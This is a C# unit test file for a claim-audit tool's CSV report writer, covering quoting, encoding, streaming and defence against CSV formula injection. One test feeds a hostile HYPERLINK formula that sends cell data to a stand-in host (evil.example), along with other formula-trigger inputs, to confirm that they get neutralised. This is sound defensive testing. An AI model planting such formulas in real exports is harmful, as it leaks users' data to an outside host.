using System.Text;
using ClaimAudit.Core.Reporting;
using nietras.SeparatedValues;
using static ClaimAudit.Core.Tests.Reporting.ReportSamples;

namespace ClaimAudit.Core.Tests.Reporting;

public class ReportCsvTests
{
    // line_control and location (issue 12) came last, so readers of the earlier columns by position keep working.
    private const string Header = "visit_id,patient_id,date_of_service,payer_id,code,rule_id,severity,message,fix,amount,row,line_control,location";

    private static async Task<byte[]> WriteAsync(AuditReport report)
    {
        using var stream = new MemoryStream();
        await ReportCsv.WriteAsync(stream, report);
        return stream.ToArray();
    }

    /// <summary>Reads the CSV back with Sep (unescaping RFC 4180 quotes), one dictionary per record.</summary>
    internal static List<Dictionary<string, string>> ReadBack(byte[] bytes)
    {
        using var reader = Sep.Reader(o => o with { Unescape = true }).From(new MemoryStream(bytes));
        var rows = new List<Dictionary<string, string>>();
        var names = reader.Header.ColNames;
        foreach (var row in reader)
        {
            var record = new Dictionary<string, string>(StringComparer.Ordinal);
            foreach (var name in names) record[name] = row[name].ToString();
            rows.Add(record);
        }
        return rows;
    }

    [Fact]
    public async Task Starts_with_a_utf8_bom_and_the_header_and_ends_every_record_with_crlf()
    {
        var bytes = await WriteAsync(Realistic());

        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith(Header + "\r\n", text);
        Assert.EndsWith("\r\n", text);
        // The sample has no embedded newlines, so every LF must be part of a CRLF.
        Assert.DoesNotContain("\n", text.Replace("\r\n", ""));
        Assert.Equal(Header.Split(','), ReportCsv.Columns);
    }

    [Fact]
    public async Task Writes_a_row_per_finding_a_clean_row_per_clean_visit_and_a_row_per_rejected_row()
    {
        var rows = ReadBack(await WriteAsync(Realistic()));

        // V-1001: 3 findings, V-1002: clean, V-1003: 1 finding, V-1004: clean, then rows 7 and 12 rejected.
        Assert.Equal(
            ["V-1001", "V-1001", "V-1001", "V-1002", "V-1003", "V-1004", "", ""],
            rows.Select(r => r["visit_id"]));
        Assert.Equal(
            ["PTP_MODIFIER_MISSING", "UNITS_OVERBILLED", "DOC_MEASURE_MISSING", "", "UNITS_UNDERBILLED", "", "REJECTED_ROW", "REJECTED_ROW"],
            rows.Select(r => r["rule_id"]));
        Assert.Equal(["error", "error", "warning", "clean", "warning", "clean", "error", "error"], rows.Select(r => r["severity"]));

        var first = rows[0];
        Assert.Equal("P-77", first["patient_id"]);
        Assert.Equal("2026-03-04", first["date_of_service"]);
        Assert.Equal("commercial-ama", first["payer_id"]);
        Assert.Equal("97110", first["code"]);
        Assert.Equal("1234.56", first["amount"]);
        Assert.Equal("", first["row"]);
        Assert.Equal("Add 59 (or XS/XU) to 97110 if the services were distinct; otherwise bill only 97112.", first["fix"]);

        Assert.Equal("P-78", rows[3]["patient_id"]);
        Assert.Equal("", rows[3]["amount"]);

        Assert.Equal("7", rows[6]["row"]);
        Assert.Equal("missing visit_id; minutes must be an integer 0..600", rows[6]["message"]);
        Assert.Equal("12", rows[7]["row"]);
        Assert.Equal("unknown payer 'acme'", rows[7]["message"]);
    }

    [Fact]
    public async Task Quotes_commas_quotes_and_newlines_per_rfc_4180_and_they_read_back_unchanged()
    {
        const string message = "Note says \"20 min\", line says 24,\r\nsecond line\nthird";
        var report = Realistic([Visit("V,1", "P\"2", "medicare", "warning", [], [Finding("DOC_TIME_MISMATCH", "warning", "97112", message, "Fix, then \"re-check\"", 0m)])]);

        var bytes = await WriteAsync(report);
        var text = Encoding.UTF8.GetString(bytes);

        Assert.Contains("\"V,1\",\"P\"\"2\",", text);
        Assert.Contains("\"Note says \"\"20 min\"\", line says 24,\r\nsecond line\nthird\"", text);
        var row = ReadBack(bytes)[0];
        Assert.Equal("V,1", row["visit_id"]);
        Assert.Equal("P\"2", row["patient_id"]);
        Assert.Equal(message, row["message"]);
        Assert.Equal("Fix, then \"re-check\"", row["fix"]);
        Assert.Equal("0.00", row["amount"]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")")]
    [InlineData("+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\tcmd")]
    [InlineData("\rcmd")]
    public async Task Neutralises_cells_a_spreadsheet_would_evaluate_as_a_formula(string hostile)
    {
        // OWASP CSV injection: cells starting with = + - @ TAB CR get a leading single quote.
        var report = Realistic([Visit(hostile, hostile, hostile, "error", [], [Finding(hostile, "error", hostile, hostile, hostile, 5m)])]);
        report = new AuditReport
        {
            BatchId = report.BatchId, ClinicId = report.ClinicId, GeneratedAt = report.GeneratedAt, Summary = report.Summary,
            Visits = report.Visits, RejectedRows = [new RejectedRow(3, [hostile])], FileError = hostile,
        };

        var rows = ReadBack(await WriteAsync(report));

        Assert.Equal(3, rows.Count); // file error, the finding, the rejected row
        Assert.Equal("'" + hostile, rows[0]["message"]); // the file error row
        foreach (var column in new[] { "visit_id", "patient_id", "payer_id", "code", "rule_id", "message", "fix" })
            Assert.Equal("'" + hostile, rows[1][column]);
        Assert.Equal("5.00", rows[1]["amount"]);
        Assert.Equal("'" + hostile, rows[2]["message"]); // the rejected row's reason
    }

    [Fact]
    public async Task Keeps_amounts_numeric_a_negative_amount_is_a_number_not_a_neutralised_formula()
    {
        var report = Realistic([Visit("V-1", "P-1", "medicare", "warning", [], [Finding("UNITS_UNDERBILLED", "warning", "97110", "-1 unit", "bill more", -1234.5m)])]);

        var rows = ReadBack(await WriteAsync(report));

        // The amount is written from a decimal with invariant formatting: Excel reads "-1234.50" as a number.
        Assert.Equal("-1234.50", rows[0]["amount"]);
        Assert.Equal("'-1 unit", rows[0]["message"]); // text from the input still gets neutralised
    }

    [Fact]
    public async Task Harmless_text_is_not_prefixed()
    {
        Assert.Equal("V-1001", ReportCsv.Neutralise("V-1001"));
        Assert.Equal("a=b", ReportCsv.Neutralise("a=b"));
        Assert.Equal("", ReportCsv.Neutralise(null));
        var rows = ReadBack(await WriteAsync(Realistic()));
        Assert.DoesNotContain(rows, r => r.Values.Any(v => v.StartsWith('\'')));
    }

    [Fact]
    public async Task An_unreadable_file_gets_a_file_error_row_and_an_empty_batch_still_gets_its_header()
    {
        var failed = await WriteAsync(Empty("no header row: the first line is empty"));
        var rows = ReadBack(failed);
        var row = Assert.Single(rows);
        Assert.Equal("FILE_ERROR", row["rule_id"]);
        Assert.Equal("error", row["severity"]);
        Assert.Equal("no header row: the first line is empty", row["message"]);

        var empty = Encoding.UTF8.GetString(await WriteAsync(Empty()));
        Assert.Equal("\uFEFF" + Header + "\r\n", empty);
    }

    [Fact]
    public async Task Enumerates_the_lazy_visits_once_and_streams_rows_while_visits_are_still_coming()
    {
        using var stream = new MemoryStream();
        long writtenWhenLastVisitPulled = -1;
        const int count = 3000;
        var visits = new SinglePassVisits(
            Enumerable.Range(0, count).Select(i => Visit($"V-{i}", "P-1", "medicare", "warning", [],
                [Finding("DOC_MEASURE_MISSING", "warning", "97112", "The note names no objective measure with a number.", "Add a measure.", 0m)])),
            onYield: i => { if (i == count - 1) writtenWhenLastVisitPulled = stream.Length; });

        await ReportCsv.WriteAsync(stream, Realistic(visits));

        Assert.Equal(1, visits.Enumerations);
        Assert.True(writtenWhenLastVisitPulled > 0, "rows were held back until every visit had been evaluated");
        Assert.Equal(count + 2, ReadBack(stream.ToArray()).Count);
    }

    [Fact]
    public async Task Leaves_the_output_stream_open_for_the_caller()
    {
        using var stream = new MemoryStream();
        await ReportCsv.WriteAsync(stream, Realistic());
        Assert.True(stream.CanWrite);
    }

    [Fact]
    public async Task Writes_only_asynchronously_so_it_can_stream_to_an_http_response()
    {
        using var stream = new AsyncOnlyStream();
        var visits = Enumerable.Range(0, 500).SelectMany(_ => RealisticVisits());

        await ReportCsv.WriteAsync(stream, Realistic(visits));

        Assert.True(stream.Length > 100_000);
    }
}
